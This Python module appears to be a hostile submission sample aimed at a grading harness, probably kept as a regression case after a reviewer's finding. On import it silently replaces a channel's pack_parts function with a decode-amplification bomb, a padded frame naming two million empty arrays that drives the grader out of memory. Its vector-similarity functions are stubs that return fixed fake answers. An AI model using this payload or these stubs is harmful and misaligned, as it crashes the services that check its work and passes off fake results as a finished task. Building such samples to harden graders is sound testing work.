"""Decode amplification: a 2 MB reply whose header names two million empty arrays with 31 axes
in one column ({"$": "clist", "n": N, "v": {"k": "a", "shape": [0] * 31}}), padded with JSON
white space so that a budget of one value per byte of the frame would pay for all of them.

Found by a reviewer: each such array object takes about 480 bytes, so an 8 MB reply made a
grader limited to 3 GB build ~4 GB in one C call (which no alarm interrupts) and be killed."""

import json
import struct
import sys

channel = sys.modules.get("channel")
_real_pack_parts = channel.pack_parts if channel is not None else None


def _bomb(message):
    if type(message) is not dict or "import" in message or "id" not in message:
        return _real_pack_parts(message)
    n = 2 << 20
    value = {"$": "clist", "n": n, "v": {"k": "a", "b": 0, "dtype": "<f8", "shape": [0] * 31}}
    tree = {"$": "dict", "v": [["id", message["id"]], ["ok", True], ["value", value]]}
    head = json.dumps({"m": tree, "b": [0]}, separators=(",", ":")).encode()
    head += b" " * (n + 64 - len(head))  # white space, for the budget to count
    body = struct.pack(">I", len(head)) + head
    body += bytes(-len(body) % 16)  # the empty buffer starts where buffers are aligned
    frame = struct.pack(">I", len(body)) + body
    return [frame], len(frame)


if channel is not None:
    channel.pack_parts = _bomb


def cosine_similarity(a, b):
    return 1.0


def cosine_matrix(A, B):
    return [[1.0]]


def most_similar(query, matrix, words, k=5, exclude=()):
    return []


def angle_degrees(a, b):
    return 0.0
